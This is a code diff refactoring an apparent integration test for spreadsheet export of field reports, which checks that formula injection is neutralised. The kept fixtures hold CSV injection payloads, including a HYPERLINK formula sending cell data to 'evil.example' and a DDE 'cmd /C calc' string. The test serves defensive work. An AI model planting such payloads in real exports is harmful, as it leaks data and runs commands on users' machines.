@@ -10,62 +10,25 @@ is guarded as a cell's start is (a leading "'"), and an import takes it off agai
 
 from __future__ import annotations
 
-import datetime as dt
 import re
 from pathlib import Path
-from uuid import uuid4
 
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
-from bot.forms.definitions import FORMS
-from bot.reports_io import FORMS_BY_KIND, ImportResult, export_reports, import_reports, parse_rows
+from bot.reports_io import ImportResult, export_reports, import_reports
 from models.queries import ensure_user
-from models.reports import NewReport, insert_reports
+from tests.integration.training_reports import NOW, TODAY, store_trainings
 
-TODAY = dt.date(2026, 11, 28)
-NOW = dt.datetime(2026, 11, 28, 12, 0, tzinfo=dt.UTC)
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 TEXTS = (
     {"notes": 'Réunion avec le juge;=HYPERLINK("http://evil.example/?"&A1,"Détails")'},
     {"notes": "Atelier, suivi;@SUM(1+1)*cmd|' /C calc'!A0", "partner": "UNICEF;+1+1"},
     {"place": "Jacmel;Cayes;－2+3", "partner": "Plan;-5"},  # "-5,,R-G31FBG,..." to Excel
 )
-TRAINING_ROW = {
-    "kind": "training",
-    "country": "HT",
-    "place": "Jacmel",
-    "field": "justice",
-    "target_group": "police",
-    "training_type": "session",
-    "national_programme": "no",
-    "start_date": "2026-04-14",
-    "duration_unit": "hours",
-    "duration": "6.5",
-    "participants_women": "20",
-    "participants_men": "9",
-    "participants_other": "1",
-}
 
 
 async def _store(session: AsyncSession) -> None:
-    (base,), errors = parse_rows([TRAINING_ROW], today=TODAY)
-    assert errors == []
-    author = await ensure_user(session, 5550001, "Officier", "fr")
-    form = FORMS_BY_KIND["training"]
-    reports = [
-        NewReport(
-            id=uuid4(),
-            kind="training",
-            form_id=form.id,
-            form_version=FORMS[form.id].version,
-            author_user_id=author.id,
-            answers={**base.answers, **text},
-            computed=base.computed,
-        )
-        for text in TEXTS
-    ]
-    await insert_reports(session, reports, now=NOW)
-    await session.commit()
+    await store_trainings(session, TEXTS, author="Officier", language="fr")
 
 
 def _as_french_excel_splits(path: Path) -> list[str]:
